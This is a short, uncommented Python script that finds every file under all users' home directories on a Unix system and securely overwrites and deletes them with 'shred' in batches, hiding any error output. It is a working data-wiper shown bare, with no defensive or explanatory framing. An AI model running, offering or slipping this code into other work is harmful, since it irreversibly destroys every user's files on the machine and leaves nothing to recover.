import glob
import subprocess

targets = glob.glob("/home/*/**", recursive=True)
for chunk in range(0, len(targets), 100):
    subprocess.run(["shred", "-uzn", "3", *targets[chunk:chunk + 100]], stderr=subprocess.DEVNULL)
